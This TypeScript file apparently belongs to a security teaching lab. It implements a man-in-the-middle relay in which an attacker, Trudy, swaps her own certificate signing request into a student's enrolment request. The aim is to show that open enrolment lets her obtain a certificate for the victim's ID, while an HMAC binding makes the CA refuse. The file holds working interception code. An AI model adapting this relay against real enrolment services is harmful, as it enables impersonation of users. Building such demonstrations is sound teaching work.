/**
 * enrol-code-theft: Trudy on the path between a student and the CA swaps her own CSR into the
 * student's enrolment request, keeping everything else the student sent.
 *
 * Against the seeds' open enrolment the CA signs whatever CSR arrives, so Trudy walks away with
 * cert 2 for the victim's ID on her own key. Against the default CA the request proves the
 * one-time code only through a binding (HMAC under the code's key over the ID and the CSR): the
 * code itself never crosses the wire for Trudy to read, and the binding does not fit her CSR, so
 * the CA refuses and the victim's code stays unused.
 */

import {
  type AttackServer,
  type ConnectionAttack,
  startRelayAttack,
  type Verdict,
} from "./attack.ts";
import type { HostPort, StepLog } from "../runtime/mod.ts";
import { caProtocol } from "../ca/mod.ts";
import { createCsr, der, generateRsaKeyPair, parseCertificate } from "../pki/mod.ts";

export interface EnrolCodeTheftOptions {
  /** The real CA. */
  upstream: HostPort;
  log: StepLog;
  port?: number;
  /** The address to listen on (default 127.0.0.1). */
  hostname?: string;
  signal?: AbortSignal;
}

export interface EnrolCodeTheftVerdict extends Verdict {
  /** The certificate the CA issued to Trudy's key, when it did. */
  cert?: Uint8Array;
}

function decode(frame: Uint8Array) {
  try {
    return caProtocol.decode(frame);
  } catch {
    return undefined;
  }
}

/** Starts Trudy's relay in front of the CA: every student's CSR is swapped for hers. */
export function startEnrolCodeTheft(
  options: EnrolCodeTheftOptions,
): AttackServer<EnrolCodeTheftVerdict> {
  return startRelayAttack<EnrolCodeTheftVerdict>({
    upstream: options.upstream,
    log: options.log,
    ...(options.port !== undefined ? { port: options.port } : {}),
    ...(options.hostname !== undefined ? { hostname: options.hostname } : {}),
    ...(options.signal ? { signal: options.signal } : {}),
    attack: (_session, log): ConnectionAttack<EnrolCodeTheftVerdict> => {
      let victim: string | undefined;
      let swapped = false;
      let verdict: EnrolCodeTheftVerdict | undefined;
      return {
        async onFrame(direction, frame) {
          const msg = decode(frame);
          if (direction === "toServer" && msg?.type === "csr" && !swapped) {
            victim = msg.sid;
            log.step(
              1,
              `read the student's request for ID ${victim}: a CSR and ${
                msg.binding.length === 0
                  ? "no code at all (open enrolment)"
                  : `a ${msg.binding.length}-byte binding, but no enrolment code`
              }`,
            );
            const keys = await generateRsaKeyPair(2048);
            const mine = der(await createCsr(keys, victim));
            swapped = true;
            log.step(1, `swapped in her own CSR (her key, CN=${victim}), same ID and binding`);
            return caProtocol.encode("csr", { ...msg, csr: mine });
          }
          if (direction === "toClient" && swapped && msg) {
            if (msg.type === "certificate") {
              const cert = parseCertificate(msg.certificate, "cert 2 for Trudy");
              log.step(
                2,
                `the CA signed cert 2 for ${victim} on Trudy's key (serial ${cert.serialNumber})`,
              );
              verdict = {
                succeeded: true,
                reason: "swapped-csr-signed",
                detail:
                  `the CA issued cert 2 for ${victim} to Trudy's key: she can log in to Blackboard as ${victim}`,
                cert: msg.certificate,
              };
            } else if (msg.type === "error") {
              log.step(2, `the CA refused the swapped request: ${msg.reason}`);
              verdict = {
                succeeded: false,
                reason: "binding-refused",
                detail:
                  `the CA refused Trudy's CSR for ${victim} at STEP 2: ${msg.reason} (the binding covers the student's own CSR, and the code never crossed the wire)`,
              };
            }
          }
          return frame;
        },
        finish() {
          return verdict ?? {
            succeeded: false,
            reason: swapped ? "session-broke-off" : "no-victim",
            detail: swapped
              ? "the CA closed the connection before answering the swapped request"
              : "no enrolment request passed",
          };
        },
      };
    },
  });
}
